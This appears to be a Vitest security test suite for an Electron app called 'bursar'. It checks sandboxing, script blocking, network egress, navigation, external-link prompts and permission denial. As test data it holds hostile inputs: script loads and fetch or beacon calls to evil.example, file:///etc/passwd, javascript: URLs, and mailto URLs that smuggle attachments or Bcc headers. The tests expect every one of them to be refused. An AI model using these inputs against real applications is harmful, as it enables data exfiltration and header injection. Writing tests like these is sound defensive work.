import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { describeMessages } from './messages.ts';
import { startApp, type RunningApp } from './start-app.ts';

let app: RunningApp;

beforeAll(async () => {
  app = await startApp();
});
afterAll(() => app.end());

const refused = { ok: false, error: { code: 'inputInvalid' } };

describe('the page', () => {
  it('reaches the outside through two functions only', async () => {
    const found = await app.page().evaluate(() => ({
      bridge: Object.keys(Reflect.get(globalThis, 'bursar')).toSorted(),
      isFrozen: Object.isFrozen(Reflect.get(globalThis, 'bursar')),
      require: typeof Reflect.get(globalThis, 'require'),
      process: typeof Reflect.get(globalThis, 'process'),
    }));
    expect(found).toEqual({
      bridge: ['call', 'onEvent'],
      isFrozen: true,
      require: 'undefined',
      process: 'undefined',
    });
  });

  it('is shown in a window that is sandboxed, isolated and without Node', () => {
    expect(app.world.isSandboxed).toBe(true);
    expect(app.window().options.webPreferences).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      webviewTag: false,
      allowRunningInsecureContent: false,
      navigateOnDragDrop: false,
      spellcheck: false,
    });
  });

  it('calls operations of the core and of its host environment, with bytes', async () => {
    expect(await app.call('host.info', {})).toMatchObject({
      ok: true,
      value: { face: 'electron', hasDialogs: true, servesLive: true, dataDirectory: app.directory },
    });
    expect(await app.call('profiles.list', {})).toEqual({ ok: true, value: [] });
    const bytes = await app.page().evaluate(async () => {
      const call = Reflect.get(globalThis, 'bursar').call;
      return (await call('batches.import', { fileName: 'a.csv', bytes: 'no bytes' })).error.message;
    });
    expect(bytes).toContain('bytes');
  });

  it('receives events', async () => {
    await app.page().evaluate(() => {
      const heard: unknown[] = [];
      Reflect.set(globalThis, 'heard', heard);
      Reflect.set(
        globalThis,
        'stop',
        Reflect.get(globalThis, 'bursar').onEvent((event: unknown) => heard.push(event)),
      );
    });
    expect(await app.call('settings.change', { density: 'compact' })).toMatchObject({ ok: true });
    await vi.waitUntil(
      () =>
        app
          .page()
          .evaluate(() =>
            Reflect.get(globalThis, 'heard').some(
              (event: object) => Reflect.get(event, 'kind') === 'settings',
            ),
          ),
      60_000,
    );
    await app.page().evaluate(() => Reflect.get(globalThis, 'stop')());
  });

  it('runs only the scripts in its own files, and none from text or from elsewhere', async () => {
    const ran = await app.page().evaluate(async () => {
      const { document } = Object(globalThis);
      const inline = document.createElement('script');
      inline.textContent = 'window.wasRun = true';
      document.head.append(inline);
      const foreign = document.createElement('script');
      foreign.src = 'https://evil.example/x.js';
      const isLoaded = new Promise((resolve) => {
        foreign.addEventListener('load', () => resolve(true));
        foreign.addEventListener('error', () => resolve(false));
      });
      document.head.append(foreign);
      // What the test itself evaluates may; what the page does later may not.
      await new Promise((resolve) => setTimeout(resolve, 0));
      let evaluated = 'nothing';
      try {
        evaluated = String(Object(globalThis)['eval']('1 + 1'));
      } catch (thrown) {
        evaluated = thrown instanceof Error ? thrown.name : 'thrown';
      }
      return { inline: Reflect.get(globalThis, 'wasRun') === true, isLoaded: await isLoaded, evaluated };
    });
    expect(ran).toEqual({ inline: false, isLoaded: false, evaluated: 'EvalError' });
  });

  it('cannot send anything to any address', async () => {
    const tries = await app.page().evaluate(async () => {
      const { Image, navigator } = Object(globalThis);
      const isSent = (work: Promise<unknown>) =>
        work.then(
          () => true,
          () => false,
        );
      const image = (address: string) =>
        new Promise((resolve, reject) => {
          const picture = new Image();
          picture.addEventListener('load', resolve);
          picture.addEventListener('error', reject);
          picture.src = address;
        });
      return [
        await isSent(fetch('https://evil.example/')),
        await isSent(fetch('http://127.0.0.1:4010/')),
        await isSent(image('https://evil.example/x.png')),
        navigator.sendBeacon('https://evil.example/', 'x') && false,
      ];
    });
    expect(tries).toEqual([false, false, false, false]);
    for (const url of [
      'https://evil.example/',
      'http://127.0.0.1/',
      'ws://127.0.0.1/',
      'file:///etc/passwd',
      'ftp://x/',
    ])
      expect(await app.world.session.isRequestLetOut(url), url).toBe(false);
  });
});

describeMessages(() => app);

describe('navigation', () => {
  it.each([
    'https://evil.example/',
    'http://127.0.0.1:4010/',
    'app://evil/',
    'app://bursar/other',
    'app://bursar@evil/',
    'file:///etc/passwd',
  ])('to %s is prevented', async (url) => {
    // The page goes to its first screen by itself, which may be after it is shown.
    await app.page().waitForURL(/#\/./);
    const before = app.page().url();
    const prevented: boolean[] = [];
    for (const name of ['will-navigate', 'will-frame-navigate'])
      app.window().webContents.emit(name, {
        url,
        isMainFrame: true,
        preventDefault: () => prevented.push(true),
      });
    expect(prevented.length).toBe(2);
    if (url.startsWith('http'))
      await app.page().evaluate((address) => void Reflect.set(globalThis, 'location', address), url);
    await app.page().evaluate(() => new Promise((resolve) => setTimeout(resolve, 50)));
    expect(app.page().url()).toBe(before);
  });

  it('of a frame inside the page is prevented, and so are redirects and web views', () => {
    for (const [name, details] of [
      ['will-frame-navigate', { url: 'app://bursar/', isMainFrame: false }],
      ['will-redirect', { url: 'app://bursar/' }],
      ['will-attach-webview', {}],
    ] as const) {
      const prevent = vi.fn<() => void>();
      app.window().webContents.emit(name, { ...details, preventDefault: prevent });
      expect(prevent, name).toHaveBeenCalledOnce();
    }
  });

  it('of the page to itself reloads it', async () => {
    await app.page().reload();
    expect(await app.call('profiles.list', {})).toMatchObject({ ok: true });
  });

  it('of a frame to another site shows nothing', async () => {
    const shown = await app.page().evaluate(async () => {
      const { document } = Object(globalThis);
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
      await new Promise((resolve) => setTimeout(resolve, 100));
      const bridge =
        frame.contentWindow === null
          ? undefined
          : (() => {
              try {
                return typeof Reflect.get(Object(frame.contentWindow), 'bursar');
              } catch {
                return 'undefined';
              }
            })();
      frame.remove();
      return bridge;
    });
    expect(shown).toBe('undefined');
  });
});

describe('windows and addresses outside', () => {
  it('opens no window, and asks before an https address goes to the browser', async () => {
    app.world.answer = () => 'Cancel';
    const before = app.world.questions.length;
    await app.page().evaluate(() => void Object(globalThis).open('https://elsewhere.example/page'));
    await vi.waitUntil(() => app.world.questions.length > before, 60_000);
    expect(app.world.questions.at(-1)).toMatchObject({
      detail: 'https://elsewhere.example/page',
      defaultId: 0,
    });
    expect(app.world.windows.size).toBe(1);
    expect(app.world.opened).toEqual([]);
  });

  it('opens an https address after the person agreed', async () => {
    app.world.answer = () => 'Open';
    expect(await app.call('host.openExternal', { url: 'https://docs.example/a?b=1' })).toEqual({
      ok: true,
      value: { isOpened: true },
    });
    expect(app.world.opened).toEqual(['https://docs.example/a?b=1']);
  });

  it('opens an e-mail draft only after the person saw all of it and agreed', async () => {
    const before = app.world.opened.length;
    const url =
      'mailto:ana@example.com?subject=Your%20payment&body=Pay%20here:%0D%0Ahttps://pay.example/?a%3D1%26b';
    app.world.answer = () => 'Cancel';
    expect(await app.call('host.openExternal', { url })).toEqual({ ok: true, value: { isOpened: false } });
    expect(app.world.opened.length).toBe(before);
    const detail = 'To: ana@example.com\nSubject: Your payment\n\nPay here:\r\nhttps://pay.example/?a=1&b';
    expect(app.world.questions.at(-1)).toMatchObject({ detail, defaultId: 0 });
    app.world.answer = () => 'Open';
    expect(await app.call('host.openExternal', { url })).toEqual({ ok: true, value: { isOpened: true } });
    expect(app.world.opened.slice(before)).toEqual([
      'mailto:ana@example.com?subject=Your%20payment&body=Pay%20here%3A%0D%0Ahttps%3A%2F%2Fpay.example%2F%3Fa%3D1%26b',
    ]);
  });

  it.each([
    'http://docs.example/',
    'file:///etc/passwd',
    'javascript:alert(1)',
    'https://user:x@docs.example/',
    'smb://x',
    '',
    'mailto:a@b.example?attach=/etc/passwd',
    'mailto:a@b.example?attachment=file:///etc/passwd&subject=x',
    'mailto:a@b.example?bcc=c@d.example',
    'mailto:a@b.example,c@d.example',
    'mailto:a@b.example?subject=x%0ABcc:%20c@d.example',
    'mailto:a@b.example?subject=x&subject=y',
    'mailto:a@b.example?%61ttach=x',
    'mailto:a%0D%0A@b.example',
    'mailto:?body=%E2%80%AE',
    'mailto:?body=%FF',
    ' mailto:a@b.example',
  ])('never opens %s, whatever the person answers', async (url) => {
    app.world.answer = ({ buttons }) => buttons.at(-1) ?? '';
    const before = app.world.opened.length;
    expect(await app.call('host.openExternal', { url })).toMatchObject(refused);
    expect(app.world.opened.length).toBe(before);
  });
});

describe('permissions', () => {
  it.each([
    'clipboard-read',
    'clipboard-sanitized-write',
    'display-capture',
    'fullscreen',
    'geolocation',
    'hid',
    'idle-detection',
    'media',
    'midi',
    'notifications',
    'openExternal',
    'pointerLock',
    'serial',
    'usb',
    'unknown',
  ])('%s is denied, whether requested or queried', async (name) => {
    expect(await app.world.session.isPermissionGranted(name)).toBe(false);
    expect(app.world.session.isPermissionSeenAsGranted(name)).toBe(false);
  });

  it('no device, screen or download is granted', async () => {
    for (const kind of ['hid', 'serial', 'usb']) expect(app.world.session.isDeviceGranted(kind)).toBe(false);
    expect(await app.world.session.chosenDisplay()).toBeNull();
    const prevent = vi.fn<() => void>();
    app.world.session.emit('will-download', { preventDefault: prevent });
    expect(prevent).toHaveBeenCalledOnce();
    const choose = vi.fn<(id: string) => void>();
    app.window().webContents.emit('select-bluetooth-device', { preventDefault: prevent }, [], choose);
    expect(choose).toHaveBeenCalledWith('');
    expect(app.world.session.isSpellCheckerEnabled).toBe(false);
  });
});
